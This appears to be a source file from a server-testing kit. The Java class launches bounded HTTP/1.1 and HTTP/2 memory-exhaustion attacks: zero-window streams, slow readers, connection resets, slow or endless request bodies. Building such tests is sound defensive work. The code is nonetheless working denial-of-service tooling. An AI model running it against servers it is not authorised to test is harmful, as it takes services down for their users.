@@ -1,0 +1,327 @@
+package lazaret.testkit.memory;
+
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.OutputStream;
+import java.io.UncheckedIOException;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.Collections;
+import java.util.List;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicInteger;
+import lazaret.testkit.http2.HeaderBlock;
+import lazaret.testkit.http2.Http2Client;
+import lazaret.testkit.http2.Http2Frame;
+import lazaret.testkit.http2.Http2Target;
+
+/// Attacks on the memory of a server. Each runs for a bounded time and returns; whatever the server
+/// does to a connection ends that connection only.
+public final class MemoryAttacks {
+  private static final byte[] PREFACE =
+      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
+  private static final int INITIAL_WINDOW_SIZE = 4;
+  private static final Duration GRACE = Duration.ofSeconds(5);
+  private static final Duration LONGEST = Duration.ofMinutes(2);
+
+  private MemoryAttacks() {}
+
+  private interface Part {
+    void run(int number) throws IOException, InterruptedException;
+  }
+
+  /// Runs parts at once and waits for all. Those that are not done in time, for example because the
+  /// server reads nothing any more, are interrupted, which closes their sockets.
+  private static void all(int count, Duration limit, Part part) {
+    try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
+      for (int i = 0; i < count; i++) {
+        int number = i;
+        threads.execute(() -> run(part, number));
+      }
+      threads.shutdown();
+      if (!threads.awaitTermination(limit.toMillis(), TimeUnit.MILLISECONDS)) {
+        threads.shutdownNow();
+      }
+    } catch (InterruptedException _) {
+      Thread.currentThread().interrupt();
+    }
+  }
+
+  private static void run(Part part, int number) {
+    try {
+      part.run(number);
+    } catch (IOException | UncheckedIOException | AssertionError _) {
+      // the server closed the connection
+    } catch (InterruptedException _) {
+      Thread.currentThread().interrupt();
+    }
+  }
+
+  /// Opens HTTP/2 connections whose window is 0, and asks on many streams.
+  ///
+  /// @param paths asked for in turn
+  /// @param drip bytes by which the windows are opened each second; 0 leaves them closed
+  public static void closedWindows(Http2Target target, List<String> paths, Shape shape, int drip) {
+    long end = System.nanoTime() + shape.time().toNanos();
+    all(
+        shape.connections(),
+        shape.time().plus(GRACE),
+        number -> {
+          try (Http2Client client = target.connect()) {
+            client.write(PREFACE);
+            client.frame(
+                Http2Frame.SETTINGS,
+                0,
+                0,
+                (byte) 0,
+                (byte) INITIAL_WINDOW_SIZE,
+                (byte) 0,
+                (byte) 0,
+                (byte) 0,
+                (byte) 0);
+            for (int i = 0; i < shape.requests(); i++) {
+              String path = paths.get((number * shape.requests() + i) % paths.size());
+              client.request(HeaderBlock.get(target.scheme(), target.authority(), path));
+            }
+            while (System.nanoTime() < end) {
+              Thread.sleep(500);
+              if (drip > 0) {
+                for (int stream = 1; stream < 2 * shape.requests(); stream += 2) {
+                  client.frame(Http2Frame.WINDOW_UPDATE, 0, stream, Http2Frame.word(drip));
+                }
+                client.frame(Http2Frame.WINDOW_UPDATE, 0, 0, Http2Frame.word(drip));
+              }
+              // An end of the connection is seen when something is sent.
+              client
+                  .frame(
+                      Http2Frame.PRIORITY, 0, 1, (byte) 0, (byte) 0, (byte) 0, (byte) 0, (byte) 0)
+                  .flush();
+            }
+          }
+        });
+  }
+
+  /// The size of an attack.
+  ///
+  /// @param connections opened at once
+  /// @param requests on each connection
+  /// @param time its duration
+  public record Shape(int connections, int requests, Duration time) {}
+
+  /// Asks over HTTP/1.1 for large answers and takes one byte a second of each.
+  ///
+  /// @param headers more lines of the request, each with CRLF at its end
+  public static void slowReaders(
+      Http2Target target, List<String> paths, int connections, Duration time, String headers) {
+    long end = System.nanoTime() + time.toNanos();
+    all(
+        connections,
+        time.plus(GRACE),
+        number -> {
+          try (Socket socket = socket(target)) {
+            String path = paths.get(number % paths.size());
+            send(
+                socket,
+                "GET "
+                    + path
+                    + " HTTP/1.1\r\nHost: "
+                    + target.authority()
+                    + "\r\n"
+                    + headers
+                    + "\r\n");
+            InputStream in = socket.getInputStream();
+            while (System.nanoTime() < end && in.read() >= 0) {
+              Thread.sleep(1_000);
+            }
+          }
+        });
+  }
+
+  /// Asks for large answers and resets the connections in the middle.
+  public static void resets(Http2Target target, List<String> paths, int connections) {
+    all(
+        connections,
+        LONGEST,
+        number -> {
+          try (Socket socket = socket(target)) {
+            send(
+                socket,
+                "GET "
+                    + paths.get(number % paths.size())
+                    + " HTTP/1.1\r\nHost: "
+                    + target.authority()
+                    + "\r\n\r\n");
+            socket.setSoTimeout(1_000);
+            socket.setSoLinger(true, 0);
+            socket.getInputStream().readNBytes(1_000 * (number % 7));
+          }
+        });
+  }
+
+  /// The way in which a body is sent.
+  ///
+  /// @param chunked whether its length is not announced
+  /// @param pause the pause after each piece of 16 KB
+  public record Sending(boolean chunked, Duration pause) {}
+
+  /// Posts bodies at once.
+  ///
+  /// @param body the bytes to send
+  /// @return how many were answered with 200
+  public static int bodies(
+      Http2Target target, String token, int connections, byte[] body, Sending sending) {
+    AtomicInteger good = new AtomicInteger();
+    all(
+        connections,
+        LONGEST,
+        _ -> {
+          try (Socket socket = socket(target)) {
+            send(
+                socket,
+                "POST "
+                    + target.path()
+                    + " HTTP/1.1\r\nHost: "
+                    + target.authority()
+                    + "\r\nAuthorization: Bearer "
+                    + token
+                    + "\r\nContent-Type: application/json\r\n"
+                    + (sending.chunked()
+                        ? "Transfer-Encoding: chunked"
+                        : "Content-Length: " + body.length)
+                    + "\r\n\r\n");
+            sendBody(socket.getOutputStream(), body, sending);
+            byte[] head = socket.getInputStream().readNBytes(12);
+            if (new String(head, StandardCharsets.ISO_8859_1).endsWith(" 200")) {
+              good.incrementAndGet();
+            }
+          }
+        });
+    return good.get();
+  }
+
+  private static void sendBody(OutputStream out, byte[] body, Sending sending)
+      throws IOException, InterruptedException {
+    int step = 16 << 10;
+    for (int at = 0; at < body.length; at += step) {
+      byte[] piece = Arrays.copyOfRange(body, at, Math.min(body.length, at + step));
+      if (sending.chunked()) {
+        out.write((Integer.toHexString(piece.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
+      }
+      out.write(piece);
+      if (sending.chunked()) {
+        out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
+      }
+      out.flush();
+      Thread.sleep(sending.pause());
+    }
+    if (sending.chunked()) {
+      out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
+    }
+    out.flush();
+  }
+
+  /// Asks at once and reads the answers.
+  public static void atOnce(Http2Target target, List<String> paths, int connections) {
+    all(
+        connections,
+        LONGEST,
+        number -> {
+          try (Socket socket = socket(target)) {
+            send(
+                socket,
+                "GET "
+                    + paths.get(number % paths.size())
+                    + " HTTP/1.1\r\nHost: "
+                    + target.authority()
+                    + "\r\nConnection: close\r\n\r\n");
+            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
+          }
+        });
+  }
+
+  /// Begins requests over HTTP/2 whose body never ends, and leaves without a word.
+  ///
+  /// @param token sent with each; empty for none
+  /// @param method `GET` or `POST`
+  public static void unfinishedBodies(
+      Http2Target target, Shape shape, String method, String token) {
+    all(
+        shape.connections(),
+        shape.time().plus(GRACE),
+        _ -> {
+          try (Http2Client client = target.open()) {
+            for (int i = 0; i < shape.requests(); i++) {
+              HeaderBlock block =
+                  method.equals("GET")
+                      ? target.get()
+                      : HeaderBlock.post(target.scheme(), target.authority(), target.path());
+              block.literal(HeaderBlock.Indexing.NOT_INDEXED, "content-type", "application/json");
+              if (!token.isEmpty()) {
+                block.literal(HeaderBlock.Indexing.NOT_INDEXED, "authorization", "Bearer " + token);
+              }
+              int stream = client.stream();
+              client.frame(Http2Frame.HEADERS, Http2Frame.END_HEADERS, stream, block.bytes());
+              client.frame(Http2Frame.DATA, 0, stream, new byte[200]).flush();
+            }
+            Thread.sleep(shape.time());
+          }
+        });
+  }
+
+  /// Downloads over HTTP/2 as slow honest clients do: each opens its windows by what it has read.
+  ///
+  /// @param bytesPerSecond the rate of each client
+  /// @return the lengths of the bodies that arrived whole
+  public static List<Long> slowDownloads(Http2Target target, int connections, int bytesPerSecond) {
+    List<Long> lengths = Collections.synchronizedList(new ArrayList<>());
+    all(
+        connections,
+        LONGEST,
+        _ -> {
+          try (Http2Client client = target.open()) {
+            int stream = client.request(target.get());
+            long length = 0;
+            while (true) {
+              Http2Frame frame = client.read();
+              if (frame == null
+                  || (frame.stream() == stream && frame.type() > Http2Frame.HEADERS)) {
+                return;
+              }
+              int read = frame.type() == Http2Frame.DATA ? frame.payload().length() : 0;
+              length += read;
+              if (frame.type() == Http2Frame.DATA && frame.has(Http2Frame.END_STREAM)) {
+                lengths.add(length);
+                return;
+              }
+              if (read > 0) {
+                Thread.sleep(1_000L * read / bytesPerSecond);
+                client.frame(Http2Frame.WINDOW_UPDATE, 0, stream, Http2Frame.word(read));
+                client.frame(Http2Frame.WINDOW_UPDATE, 0, 0, Http2Frame.word(read)).flush();
+              }
+            }
+          }
+        });
+    return lengths;
+  }
+
+  private static Socket socket(Http2Target target) throws IOException {
+    Socket plain = new Socket();
+    plain.setReceiveBufferSize(4_096);
+    plain.setSoTimeout(60_000);
+    plain.connect(new InetSocketAddress(target.host(), target.port()), 10_000);
+    return target.tls() == null
+        ? plain
+        : target.tls().getSocketFactory().createSocket(plain, target.host(), target.port(), true);
+  }
+
+  private static void send(Socket socket, String head) throws IOException {
+    socket.getOutputStream().write(head.getBytes(StandardCharsets.ISO_8859_1));
+    socket.getOutputStream().flush();
+  }
+}
